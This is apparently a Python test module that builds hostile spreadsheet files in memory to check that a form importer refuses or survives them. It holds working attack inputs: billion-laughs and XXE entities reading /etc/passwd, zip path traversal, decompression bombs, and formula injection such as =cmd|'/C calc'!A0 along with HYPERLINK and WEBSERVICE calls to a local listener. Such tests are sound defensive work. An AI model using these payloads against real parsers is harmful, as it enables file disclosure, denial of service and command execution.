"""Hostile and damaged files, created in memory."""

import io
import random
import zipfile
from collections.abc import Callable, Iterator, Mapping, Sequence
from typing import NamedTuple
from xml.sax.saxutils import escape

from fieldgate.imports.xlsform.importer import MAX_SURVEY_ROWS
from tests.imports.workbooks import SURVEY, xlsx
from tests.imports.xlsform.workbooks import ods, xls

COMPLETE, REFUSED = "complete", "refused at once"
UNREADABLE, INVALID, TOO_LARGE = (
    "unreadable_workbook",
    "invalid_form",
    "too_large",
)  # types of error
FORBIDDEN_NAME = "fieldgate-evil"  # no file of this name may appear anywhere
MEBIBYTE = 1024 * 1024
SPREADSHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
RELATIONSHIPS_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
SHEET_PART, STRINGS_PART, RELATIONS_PART = (
    "xl/worksheets/sheet1.xml",
    "xl/sharedStrings.xml",
    "xl/_rels/workbook.xml.rels",
)
SHEET_HEAD = f'<worksheet xmlns="{SPREADSHEET_NS}"><sheetData>'
SHEET_TAIL = "</sheetData></worksheet>"
# Calamine refuses it, so that openpyxl reads the sheet.
ROWS_ONLY_HEAD = SHEET_HEAD.replace("<sheetData>", '<dimension ref="1:63"/><sheetData>')

Part = str | bytes | Iterator[bytes]


class HostileFile(NamedTuple):
    """A file, its name, and the expected result: complete, refused by the request, or a type of error."""

    build: Callable[[], bytes]
    expected: str
    filename: str = "form.xlsx"


def cell_xml(row: int, column: int, text: str) -> str:
    return f'<c r="{chr(65 + column)}{row}" t="inlineStr"><is><t>{escape(text)}</t></is></c>'


def rows_xml(rows: Sequence[Sequence[object]], first: int = 1) -> str:
    return "".join(
        f'<row r="{number}">{"".join(cell_xml(number, column, str(text)) for column, text in enumerate(row))}</row>'
        for number, row in enumerate(rows, first)
    )


def modified_workbook(parts: Mapping[str, Part], level: int = 6) -> bytes:
    """Return a small valid workbook with some parts replaced or added."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx())) as valid,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as book,
    ):
        for name in valid.namelist():
            if name not in parts:
                book.writestr(name, valid.read(name))
        for name, part in parts.items():
            with book.open(name, "w", force_zip64=True) as target:
                for chunk in (part,) if isinstance(part, (str, bytes)) else part:
                    target.write(chunk.encode() if isinstance(chunk, str) else chunk)
    return file.getvalue()


def workbook_with_xml(xml: str, head: str = SHEET_HEAD) -> bytes:
    return modified_workbook({SHEET_PART: f"{head}{rows_xml(SURVEY)}{xml}{SHEET_TAIL}"})


def workbook_with_survey(
    *rows: Sequence[object], columns: Sequence[str] = ("type", "name", "label", "relevant")
) -> bytes:
    return modified_workbook({SHEET_PART: SHEET_HEAD + rows_xml((columns, *rows)) + SHEET_TAIL})


# Too large


def repeat_filler(size: int, filler: bytes, before: str = "", after: str = "") -> Iterator[bytes]:
    chunk = filler * (MEBIBYTE // len(filler))
    yield before.encode()
    for _ in range(size // MEBIBYTE):
        yield chunk
    yield after.encode()


def cell_bomb(head: str = SHEET_HEAD) -> bytes:
    """One cell larger than the memory."""
    start = head + rows_xml(SURVEY) + '<row r="4"><c r="A4" t="inlineStr"><is><t>'
    return modified_workbook(
        {
            SHEET_PART: repeat_filler(
                700 * MEBIBYTE, b"x", start, "</t></is></c></row>" + SHEET_TAIL
            )
        },
        level=1,
    )


def shared_strings_bomb() -> bytes:
    """Many millions of shared strings that no cell uses."""
    filler = b"<si><t>12345678</t></si>"
    before, after = f'<sst xmlns="{SPREADSHEET_NS}">', "</sst>"
    types = (
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="xml" ContentType="application/xml"/></Types>'
    )
    return modified_workbook(
        {
            STRINGS_PART: repeat_filler(512 * MEBIBYTE, filler, before, after),
            RELATIONS_PART: sheet_relations(
                SHEET_PART,
                extra=f'<Relationship Type="{RELATIONSHIPS_NS}/sharedStrings" Target="sharedStrings.xml" Id="rId9"/>',
            ),
            "[Content_Types].xml": types,
        },
        level=1,
    )  # fmt: skip


def whitespace_bomb() -> bytes:
    """More whitespace than memory, after the last row."""
    return modified_workbook(
        {
            SHEET_PART: repeat_filler(
                700 * MEBIBYTE, b" ", SHEET_HEAD + rows_xml(SURVEY), SHEET_TAIL
            )
        },
        level=1,
    )


def million_rows(head: str = SHEET_HEAD) -> bytes:
    """Every row a spreadsheet can have, each with a question."""

    def rows() -> Iterator[bytes]:
        yield (head + rows_xml(SURVEY)).encode()
        for first in range(4, 1_048_577, 4096):
            numbers = range(first, min(first + 4096, 1_048_577))
            yield "".join(
                f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>text</t></is></c>'
                f'<c r="B{n}" t="inlineStr"><is><t>q{n}</t></is></c></row>'
                for n in numbers
            ).encode()
        yield SHEET_TAIL.encode()

    return modified_workbook({SHEET_PART: rows()}, level=1)


def last_cell() -> bytes:
    """Two cells, in opposite corners of the largest possible sheet."""
    return workbook_with_xml('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')


def wide_row() -> bytes:
    """A cell in a column that no sheet has."""
    return workbook_with_xml('<row r="4"><c r="ZZZZZZ4"><v>1</v></c></row>', ROWS_ONLY_HEAD)


def looping_xls() -> bytes:
    """A file whose stream refers to its own sectors again and again, and whose sheets begin where they should not."""
    book = bytearray(xls({"survey": SURVEY}, extent=(2**24, 256)))
    book[512 + 4 * 9 : 512 + 4 * 10] = (2).to_bytes(4, "little")
    return bytes(book)


def out_of_range_cell() -> bytes:
    """A cell outside the largest possible sheet."""
    return workbook_with_xml('<row r="4294967295"><c r="ZZZZZZ4294967295"><v>1</v></c></row>')


def many_questions() -> bytes:
    """The maximum number of rows: compiling them must end."""
    rows = [("text", f"q{number}", f"Question {number}", "") for number in range(MAX_SURVEY_ROWS)]
    return workbook_with_survey(*rows)


def many_problems() -> bytes:
    """A mistake in every row."""
    return workbook_with_survey(
        *[("florb", f"{number}", "", f"${{nope{number}}} = 1") for number in range(MAX_SURVEY_ROWS)]
    )


def wide_rows() -> bytes:
    """Rows and columns within their limits, but too many cells."""
    line = ",".join(["", "type", "name", "label", *(f"label::l{n} (l{n})" for n in range(1_900))])
    row = ",".join(["", "text", "q", *["x"] * 1_901])
    return "\n".join(
        ["survey,", line, *(row.replace("q", f"q{n}", 1) for n in range(5_000))]
    ).encode()


# Depth


def deep_xml(head: str = SHEET_HEAD) -> bytes:
    return workbook_with_xml("<a>" * 1_000_000 + "</a>" * 1_000_000, head)


def billion_laughs() -> bytes:
    """Nested entities: a few lines that expand to gigabytes."""
    entities = "".join(f'<!ENTITY e{n} "{f"&e{n - 1};" * 10}">' for n in range(1, 11))
    document = f'<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY e0 "ha">{entities}]>'
    more = '<row r="4"><c r="A4" t="inlineStr"><is><t>note</t></is></c><c r="B4" t="inlineStr"><is><t>n</t></is></c>'
    laugh = '<c r="C4" t="inlineStr"><is><t>&e10;</t></is></c></row>'
    return modified_workbook(
        {SHEET_PART: document + SHEET_HEAD + rows_xml(SURVEY) + more + laugh + SHEET_TAIL}
    )


def external_entity() -> bytes:
    """An entity that refers to a local file."""
    document = '<?xml version="1.0"?><!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
    entity = '<c r="C4" t="inlineStr"><is><t>&e;</t></is></c>'
    row = f'<row r="4">{cell_xml(4, 0, "note")}{cell_xml(4, 1, "n")}{entity}</row>'
    return modified_workbook(
        {SHEET_PART: document + SHEET_HEAD + rows_xml(SURVEY) + row + SHEET_TAIL}
    )


def deep_expression() -> bytes:
    return workbook_with_survey(
        ("text", "a", "A", ""), ("text", "b", "B", "(" * 30_000 + "${a} = 1" + ")" * 30_000)
    )


def pathological_expressions() -> bytes:
    """Unterminated brackets, quotes and names."""
    shapes = (
        "${" * 20_000,
        "'" + "a" * 60_000,
        "a" * 60_000 + "!",
        "not(" * 15_000,
        "a/" * 30_000,
        "1 - " * 15_000,
    )
    return workbook_with_survey(
        *[("text", f"q{number}", "Q", shape) for number, shape in enumerate(shapes)]
    )


# Text that other programs interpret

FORMULA = '=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")'
COMMAND = "=cmd|'/C calc'!A0"
SCRIPT = "<script>alert(1)</script>"


def formula_text() -> bytes:
    return workbook_with_survey(
        ("text", "a", FORMULA, ""), ("text", "b", COMMAND, ""), ("text", "c", SCRIPT, "")
    )


def formula_csv() -> bytes:
    quoted = FORMULA.replace('"', '""')
    return f'type,name,label\ntext,a,"{quoted}"\ntext,b,{COMMAND}\ntext,c,{SCRIPT}\n'.encode()


def real_formulas(port: int) -> bytes:
    """Formulas with a false stored value, and links to a local listener."""
    address = f"http://127.0.0.1:{port}/"
    row = (
        f'<row r="4">{cell_xml(4, 0, "note")}{cell_xml(4, 1, "n")}<c r="C4" t="str"><f>WEBSERVICE("{address}")</f>'
        "<v>claimed</v></c></row>"
    )
    links = (
        f'<hyperlinks><hyperlink ref="C4" r:id="rId1" xmlns:r="{RELATIONSHIPS_NS}"/></hyperlinks>'
    )
    document = f'<?xml version="1.0"?><!DOCTYPE worksheet SYSTEM "{address}evil.dtd">'
    link = f'<Relationship Id="rId1" Type="{RELATIONSHIPS_NS}/hyperlink" Target="{address}" TargetMode="External"/>'
    outside = (
        f'<Relationship Id="rId8" Type="{RELATIONSHIPS_NS}/externalLink" '
        f'Target="{address}x.xlsx" TargetMode="External"/>'
    )
    return modified_workbook(
        {
            SHEET_PART: f"{document}{SHEET_HEAD}{rows_xml(SURVEY)}{row}</sheetData>{links}</worksheet>",
            "xl/worksheets/_rels/sheet1.xml.rels": relations_xml(link),
            RELATIONS_PART: sheet_relations(SHEET_PART, outside),
        }
    )


def relations_xml(inner: str) -> str:
    return f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{inner}</Relationships>'


def sheet_relations(target: str, extra: str = "") -> str:
    first = f'<Relationship Type="{RELATIONSHIPS_NS}/worksheet" Target="{target}" Id="rId1"/>'
    return relations_xml(first.replace("xl/", "/xl/", 1) + extra)


# Paths


def path_traversal() -> bytes:
    names = (
        f"../../../../../../../../tmp/{FORBIDDEN_NAME}",
        f"/tmp/{FORBIDDEN_NAME}",
        f"..\\..\\{FORBIDDEN_NAME}",
        f"xl/../../{FORBIDDEN_NAME}",
    )
    return modified_workbook(dict.fromkeys(names, "evil"))


def external_sheet() -> bytes:
    """A workbook whose sheet refers to a local file."""
    return modified_workbook({RELATIONS_PART: sheet_relations("../../../../../../etc/passwd")})


def duplicate_part() -> bytes:
    file = io.BytesIO(xlsx())
    with zipfile.ZipFile(file, "a") as book:
        info = zipfile.ZipInfo(SHEET_PART.upper())
        book.writestr(info, SHEET_HEAD + rows_xml((("type", "name"), ("florb", "x"))) + SHEET_TAIL)
    return file.getvalue()


# Not what the name or header says


def truncated() -> bytes:
    book = xlsx()
    return book[: len(book) // 2]


def control_characters() -> bytes:
    """Sheet names and cells with characters that XML and PostgreSQL cannot store."""
    name = "".join(map(chr, (1, 8, 11, 0xFFFE)))
    book = (
        f'<workbook xmlns="{SPREADSHEET_NS}" xmlns:r="{RELATIONSHIPS_NS}">'
        '<sheets><sheet name="survey" sheetId="1" r:id="rId1"/>'
        f'<sheet name="choice{name}&#1;" sheetId="2" r:id="rId1"/></sheets></workbook>'
    )
    text = "a&#1;b&#x1F;c&#xFFFF;" + name
    cells = cell_xml(4, 0, "note") + cell_xml(4, 1, "n")
    row = f'<row r="4">{cells}<c r="C4" t="inlineStr"><is><t>{text}</t></is></c></row>'
    return modified_workbook(
        {"xl/workbook.xml": book, SHEET_PART: SHEET_HEAD + rows_xml(SURVEY) + row + SHEET_TAIL}
    )


def control_characters_csv() -> bytes:
    """CSV with control characters after many rows."""
    start = b"type,name,label\n" + b"".join(
        b"text,q%d,Question\n" % number for number in range(5_000)
    )
    return start + b"text,z,a\0b\x01\x0b\xef\xbf\xbf\nflo\0rb,y,\x1f\nfl\x02orb\0,\0,\n"


def unterminated_ods() -> bytes:
    """A table without an end tag."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(ods({"survey": SURVEY}))) as valid,
        zipfile.ZipFile(file, "w") as book,
    ):
        for name in valid.namelist():
            data = valid.read(name)
            book.writestr(
                name, data[: data.rindex(b"</table:table>")] if name == "content.xml" else data
            )
    return file.getvalue()


def oversized_xls_header() -> bytes:
    """A small file whose header claims four billion allocation tables."""
    book = xls({"survey": SURVEY})
    return book[:44] + b"\xff" * 4 + book[48:]


FAST_CASES: dict[str, HostileFile] = {
    "a cell far away": HostileFile(last_cell, TOO_LARGE),
    "a cell beyond": HostileFile(out_of_range_cell, UNREADABLE),
    "deep XML": HostileFile(deep_xml, COMPLETE),
    "a billion laughs": HostileFile(billion_laughs, UNREADABLE),
    "an entity outside": HostileFile(external_entity, UNREADABLE),
    "a deep expression": HostileFile(deep_expression, INVALID),
    "formulas as text": HostileFile(formula_text, COMPLETE),
    "formulas in a csv": HostileFile(formula_csv, COMPLETE, "form.csv"),
    "path names in the zip": HostileFile(path_traversal, COMPLETE),
    "a path for a name": HostileFile(xlsx, COMPLETE, f"../../../tmp/{FORBIDDEN_NAME}.xlsx"),
    "a sheet elsewhere": HostileFile(external_sheet, UNREADABLE),
    "a part twice": HostileFile(duplicate_part, INVALID),
    "half a file": HostileFile(truncated, UNREADABLE),
    "an xls of chance": HostileFile(
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + random.Random(1).randbytes(8192),
        UNREADABLE,
        "form.xls",
    ),
    "a page": HostileFile(lambda: b"<html><body>hello</body></html>", REFUSED),
    "chance": HostileFile(lambda: random.Random(2).randbytes(5000), REFUSED),
    "a workbook called pdf": HostileFile(xlsx, COMPLETE, "form.pdf"),
    "a csv called xlsx": HostileFile(lambda: b"type,name,label\ntext,a,A\n", COMPLETE),
    "control characters": HostileFile(control_characters, COMPLETE),
    "control characters far down a csv": HostileFile(control_characters_csv, INVALID, "form.csv"),
    "an xls without bounds": HostileFile(oversized_xls_header, COMPLETE, "form.xls"),
    "an xls that loops": HostileFile(looping_xls, UNREADABLE, "form.xls"),
    "an xls of 4 billion cells": HostileFile(
        lambda: xls({"survey": SURVEY}, extent=(2**24, 256)), COMPLETE, "form.xls"
    ),
    "deep XML for openpyxl": HostileFile(lambda: deep_xml(ROWS_ONLY_HEAD), COMPLETE),
    "a column beyond for openpyxl": HostileFile(wide_row, UNREADABLE),
    "an ods without end": HostileFile(unterminated_ods, TOO_LARGE, "form.ods"),
}

SLOW_CASES: dict[str, HostileFile] = {
    "unending expressions": HostileFile(pathological_expressions, INVALID),
    "a bomb in a cell": HostileFile(cell_bomb, TOO_LARGE),
    "a bomb in a cell for openpyxl": HostileFile(lambda: cell_bomb(ROWS_ONLY_HEAD), TOO_LARGE),
    "1,048,576 rows for openpyxl": HostileFile(lambda: million_rows(ROWS_ONLY_HEAD), TOO_LARGE),
    "a bomb of nothing": HostileFile(whitespace_bomb, TOO_LARGE),
    "millions of strings": HostileFile(shared_strings_bomb, TOO_LARGE),
    "1,048,576 rows": HostileFile(million_rows, TOO_LARGE),
    "many questions": HostileFile(many_questions, COMPLETE),
    "many problems": HostileFile(many_problems, INVALID),
    "wide rows": HostileFile(wide_rows, TOO_LARGE, "form.csv"),
}


def mutated(book: bytes, rng: random.Random) -> bytes:
    """Return the file after one to eight random changes: bytes changed, removed, inserted, moved or cut off."""
    data = bytearray(book)
    for _ in range(rng.choice((1, 1, 1, 2, 4, 8))):
        place = rng.randrange(len(data)) if data else 0
        length = rng.choice((1, 2, 4, 16, 200))
        accident = rng.randrange(5)
        if accident == 0:
            data[place : place + 1] = bytes([rng.randrange(256)])
        elif accident == 1:
            data[place : place + length] = b""
        elif accident == 2:
            data[place:place] = rng.randbytes(length)
        elif accident == 3:
            data[place : place + length] = data[rng.randrange(len(data) + 1) :][:length]
        else:
            data = data[: max(place, len(data) // 2)]
    return bytes(data)


def mutated_part(book: bytes, rng: random.Random) -> bytes:
    """Return the archive with the same changes inside one part, compressed again so that readers reach them."""
    file = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(book)) as valid,
        zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as changed_book,
    ):
        names = valid.namelist()
        victim = rng.choice([name for name in names if name.endswith((".xml", ".rels", ".bin"))])
        for name in names:
            data = valid.read(name)
            changed_book.writestr(name, mutated(data, rng) if name == victim else data)
    return file.getvalue()
